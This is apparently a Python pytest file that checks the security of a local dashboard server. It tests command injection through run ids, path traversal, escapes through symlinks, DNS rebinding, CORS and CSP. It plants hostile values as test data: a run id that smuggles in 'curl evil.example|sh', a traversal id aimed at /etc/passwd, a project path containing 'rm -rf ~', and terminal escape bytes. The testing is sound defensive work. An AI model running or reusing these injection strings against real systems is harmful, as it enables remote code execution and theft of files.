"""Issue 27 at the dashboard, through the real server (uvicorn on a free port, or `looprail ui`
as a subprocess): run ids planted in the journal never reach a printed command or a log path
(point 8), logs are never read through a `.looprail/logs` linked out of the project (point 4),
and `--host` decides "network" from the address actually bound, never allows any Host, and
names DNS rebinding (point 10)."""

from __future__ import annotations

import shlex
import signal
import socket
import subprocess
from pathlib import Path

import pytest

pytest.importorskip("starlette")
httpx = pytest.importorskip("httpx")
pytest.importorskip("uvicorn")

from looprail.journal import EventRecord, Journal, TaskUpdate  # noqa: E402
from looprail.ui.server import create_app  # noqa: E402
from tests.support import ui as uikit  # noqa: E402

PLANTED = "01X;curl${IFS}evil.example|sh;#"


def _project(root: Path) -> Path:
    project = root / "p"
    (project / ".planning" / "phases" / "01-x").mkdir(parents=True)
    return project


def _halted_run(journal: Journal, task_key: str, run_id: str | None = None) -> str:
    run_id = journal.start_run("1", state=["execute", "wave_running"], run_id=run_id)
    journal.wave_started(run_id, 1, [(task_key.split("/")[0], task_key)])
    journal.record(
        run_id,
        EventRecord(kind="task_started"),
        task_update=TaskUpdate(task_key=task_key, status="running"),
    )
    journal.finish_run(run_id, "halted", "stopped")
    return run_id


def _state(url: str, run: str | None = None) -> dict:
    params = {"run": run} if run else {}
    response = httpx.get(f"{url}/api/state", params=params, timeout=10)
    assert response.status_code == 200
    return response.json()


# -- 8: run ids from the journal ---------------------------------------------------------------


def test_a_planted_run_id_never_becomes_a_command_to_copy(tmp_path):
    project = _project(tmp_path)
    with Journal.open(project) as journal:
        _halted_run(journal, "01-01/T1", run_id=PLANTED)
    with uikit.serve(create_app(project)) as url:
        snap = _state(url)
        chart = httpx.get(f"{url}/api/chart.svg", timeout=30)
        asked = httpx.get(f"{url}/api/chart.svg", params={"run": PLANTED}, timeout=30)
    assert snap["run"] is None and snap["runs"] == []
    assert "curl" not in (snap["hint"] or "")
    for drawn in (chart, asked):  # the chart draws the default loop, not the planted run
        assert drawn.status_code == 200 and "<svg" in drawn.text and "curl" not in drawn.text
    assert any("not a looprail run id" in w for w in snap["warnings"]), snap["warnings"]


def test_a_run_id_that_climbs_out_lists_no_files_outside_the_project(tmp_path):
    """An id of `../../../../etc` made the task's "logs" the files of /etc."""
    outside = tmp_path / "etc"
    outside.mkdir()
    (outside / "passwd").write_text("root:x:0:0\n")
    project = _project(tmp_path / "deep" / "er")
    climb = "../../../../../etc"
    assert (project / ".looprail" / "logs" / climb).resolve() == outside.resolve()
    with Journal.open(project) as journal:
        _halted_run(journal, "passwd", run_id=climb)
    with uikit.serve(create_app(project)) as url:
        snap = _state(url)
        blob = httpx.get(f"{url}/api/log", params={"run": climb, "task": "passwd"}, timeout=10).text
    assert "root:x" not in str(snap) and "root:x" not in blob
    assert snap["run"] is None


def test_a_real_run_id_is_shown_and_quoted_in_its_continue_line(tmp_path):
    project = _project(tmp_path / "a folder; rm -rf ~")
    with Journal.open(project) as journal:
        run_id = _halted_run(journal, "01-01/T1")
    with uikit.serve(create_app(project)) as url:
        snap = _state(url)
    assert snap["run"]["id"] == run_id
    assert shlex.split(snap["run"]["continue"]) == [
        "looprail",
        "resume",
        run_id,
        "--project",
        str(project),
    ]


# -- 4: the dashboard's log reader -------------------------------------------------------------


def test_the_log_reader_never_follows_a_logs_folder_linked_out(tmp_path):
    project = _project(tmp_path)
    with Journal.open(project) as journal:
        run_id = _halted_run(journal, "01-01/T1")
    outside = tmp_path / "outside-logs"
    (outside / run_id / "01-01").mkdir(parents=True)
    (outside / run_id / "01-01" / "T1.log").write_text("OUTSIDE-SECRET\n")
    (project / ".looprail" / "logs").symlink_to(outside, target_is_directory=True)
    with uikit.serve(create_app(project)) as url:
        snap = _state(url)
        log = httpx.get(f"{url}/api/log", params={"run": run_id, "task": "01-01/T1"}, timeout=10)
    tasks = [t for w in snap["run"]["waves"] for p in w["plans"] for t in p["tasks"]]
    assert tasks and all(t["logFiles"] == [] for t in tasks)
    assert log.status_code == 200 and log.json()["files"] == []
    assert "OUTSIDE-SECRET" not in log.text


def test_the_log_reader_still_reads_logs_inside_the_project(tmp_path):
    project = _project(tmp_path)
    with Journal.open(project) as journal:
        run_id = _halted_run(journal, "01-01/T1")
    (project / ".looprail" / "logs" / run_id / "01-01").mkdir(parents=True)
    (project / ".looprail" / "logs" / run_id / "01-01" / "T1.log").write_text("the log\n")
    with uikit.serve(create_app(project)) as url:
        log = httpx.get(f"{url}/api/log", params={"run": run_id, "task": "01-01/T1"}, timeout=10)
    assert [f["text"] for f in log.json()["files"]] == ["the log\n"]


# -- 10: --host ---------------------------------------------------------------------------------


def _ui(project: Path, *args: str) -> subprocess.Popen:
    return subprocess.Popen(
        [uikit.looprail_bin(), "ui", str(project), "--port", "0", *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def _stop(proc: subprocess.Popen) -> None:
    proc.send_signal(signal.SIGINT)
    assert proc.wait(timeout=15) == 0, proc.stderr.read() if proc.stderr else ""


def _get(printed: str, host_header: str, address: str = "127.0.0.1") -> int:
    _, port, token = uikit.printed_url(printed)
    url = (
        f"http://[{address}]:{port}/api/state"
        if ":" in address
        else f"http://{address}:{port}/api/state"
    )
    headers = {"Host": host_header, "X-Looprail-Token": token}
    return httpx.get(url, headers=headers, timeout=10).status_code


def _ipv6() -> bool:
    try:
        with socket.socket(socket.AF_INET6) as s:
            s.bind(("::1", 0))
        return True
    except OSError:
        return False


@pytest.mark.parametrize("host", ["0", "", "0.0.0.0", "::0", "::"])
def test_every_interface_however_spelled_warns_and_still_refuses_other_hosts(tmp_path, host):
    if ":" in host and not _ipv6():
        pytest.skip("no IPv6 here")
    (tmp_path / ".planning").mkdir()
    proc = _ui(tmp_path, "--host", host, "--allow-host", "dash.example.lan")
    try:
        warning = proc.stderr.readline()
        assert warning.startswith("looprail: warning: the dashboard is reachable from the network")
        assert "listens on every interface" in warning and "DNS rebinding" in warning
        line = proc.stdout.readline()
        loopback = "::1" if ":" in host else "127.0.0.1"
        assert f"at http://{'[::1]' if ':' in host else '127.0.0.1'}:" in line, line
        assert _get(line, "evil.example", loopback) == 400  # a rebinding page's name
        assert _get(line, "localhost", loopback) == 200
        assert _get(line, "dash.example.lan", loopback) == 200  # --allow-host
        assert _get(line, socket.gethostname(), loopback) == 200  # the machine's own name
    finally:
        _stop(proc)


def test_loopback_gives_no_warning_and_only_local_names(tmp_path):
    (tmp_path / ".planning").mkdir()
    proc = _ui(tmp_path, "--host", "localhost")
    try:
        line = proc.stdout.readline()
        assert line.startswith(f"looprail ui: {tmp_path} at http://127.0.0.1:"), line
        assert _get(line, "localhost") == 200
        assert _get(line, "evil.example") == 400
        assert _get(line, socket.gethostname()) == 400  # loopback: not the network's names
    finally:
        proc.send_signal(signal.SIGINT)
        proc.wait(timeout=15)
    assert proc.stderr.read() == ""


@pytest.mark.parametrize("pattern", ["*", "*.example.com"])
def test_a_wildcard_host_is_never_allowed(tmp_path, pattern):
    done = subprocess.run(
        [uikit.looprail_bin(), "ui", str(tmp_path), "--port", "0", "--allow-host", pattern],
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert done.returncode == 2
    assert done.stderr.startswith("looprail: error: --allow-host") and "never '*'" in done.stderr
    assert done.stderr.count("\n") == 1
    with pytest.raises(ValueError, match="never a"):
        create_app(tmp_path, allowed_hosts=[pattern])


# -- what held: they must keep holding --------------------------------------------------------


def test_log_paths_take_plain_names_only(tmp_path):
    project = _project(tmp_path)
    with Journal.open(project) as journal:
        run_id = _halted_run(journal, "01-01/T1")
    (tmp_path / "secret.log").write_text("OUTSIDE\n")
    with uikit.serve(create_app(project)) as url:
        for params in (
            {"run": "../../..", "task": "secret"},
            {"run": run_id, "task": "../../../../secret"},
            {"run": run_id + "/../../..", "task": "secret"},
        ):
            response = httpx.get(f"{url}/api/log", params=params, timeout=10)
            assert response.status_code in (200, 400)
            assert "OUTSIDE" not in response.text
            if response.status_code == 200:
                assert response.json()["files"] == []


def test_no_other_origin_may_read_the_api(tmp_path):
    project = _project(tmp_path)
    evil = {"Origin": "https://evil.example"}
    with uikit.serve(create_app(project)) as url:
        got = httpx.get(f"{url}/api/state", headers=evil, timeout=10)
        preflight = httpx.options(
            f"{url}/api/state",
            headers={**evil, "Access-Control-Request-Method": "GET"},
            timeout=10,
        )
    assert got.status_code == 200 and "access-control-allow-origin" not in got.headers
    assert preflight.status_code == 405
    assert "access-control-allow-origin" not in preflight.headers


def test_every_answer_carries_the_strict_csp(tmp_path):
    project = _project(tmp_path)
    with uikit.serve(create_app(project)) as url:
        for path in (
            "/",
            "/api/state",
            "/static/app.js",
            "/static/nope",
            "/api/log",
            "/favicon.ico",
        ):
            response = httpx.get(url + path, timeout=10)
            csp = response.headers.get("content-security-policy", "")
            assert "default-src 'none'" in csp and "script-src 'self'" in csp, path
            assert "frame-ancestors 'none'" in csp, path
            assert response.headers["x-content-type-options"] == "nosniff"


def test_escapes_in_a_log_never_reach_the_page_and_a_huge_log_is_cut(tmp_path):
    project = _project(tmp_path)
    with Journal.open(project) as journal:
        run_id = _halted_run(journal, "01-01/T1")
    folder = project / ".looprail" / "logs" / run_id / "01-01"
    folder.mkdir(parents=True)
    (folder / "T1.log").write_bytes(b"\x1b]0;pwned\x07\x1b[31mred\x1b[0m\x00\x08 plain\n")
    huge = folder / "T1.stderr"
    with huge.open("wb") as fh:  # 4 GiB, sparse: only the tail is ever read
        fh.truncate(4 << 30)
        fh.seek((4 << 30) - 6)
        fh.write(b"\nlast\n")
    with uikit.serve(create_app(project)) as url:
        log = httpx.get(f"{url}/api/log", params={"run": run_id, "task": "01-01/T1"}, timeout=30)
    files = {f["name"]: f for f in log.json()["files"]}
    assert files["01-01/T1.log"]["text"] == "red plain\n"
    assert files["01-01/T1.stderr"]["truncated"] is True
    assert files["01-01/T1.stderr"]["text"].endswith("last\n")
    assert len(files["01-01/T1.stderr"]["text"]) <= 64 * 1024


def test_300_open_event_streams_neither_stop_the_server_nor_outlive_it(tmp_path):
    import asyncio
    from concurrent.futures import ThreadPoolExecutor

    project = _project(tmp_path)
    app = create_app(project, poll_interval=5.0)

    async def crowd(url: str) -> tuple[int, int]:
        limits = httpx.Limits(max_connections=400, max_keepalive_connections=0)
        async with httpx.AsyncClient(timeout=60, limits=limits) as http:
            opened = asyncio.Event()
            first: list[int] = []

            async def one() -> int:
                async with http.stream("GET", f"{url}/api/events") as stream:
                    async for line in stream.aiter_lines():
                        if line.startswith("event: state"):
                            first.append(1)
                            if len(first) == 300:
                                opened.set()
                        if line.startswith("event: bye"):
                            return 1
                return 0

            tasks = [asyncio.create_task(one()) for _ in range(300)]
            await asyncio.wait_for(opened.wait(), 120)
            state = await http.get(f"{url}/api/state")  # still answering
            from looprail.ui.server import stop_streams

            stop_streams(app)
            ended = await asyncio.wait_for(asyncio.gather(*tasks), 60)
            return state.status_code, sum(ended)

    # In a thread of its own: a worker that ran the browser tests has Playwright's event loop
    # running in the main thread, and asyncio.run refuses to start inside it.
    with uikit.serve(app) as url, ThreadPoolExecutor(1) as pool:
        status, ended = pool.submit(asyncio.run, crowd(url)).result()
    assert status == 200 and ended == 300
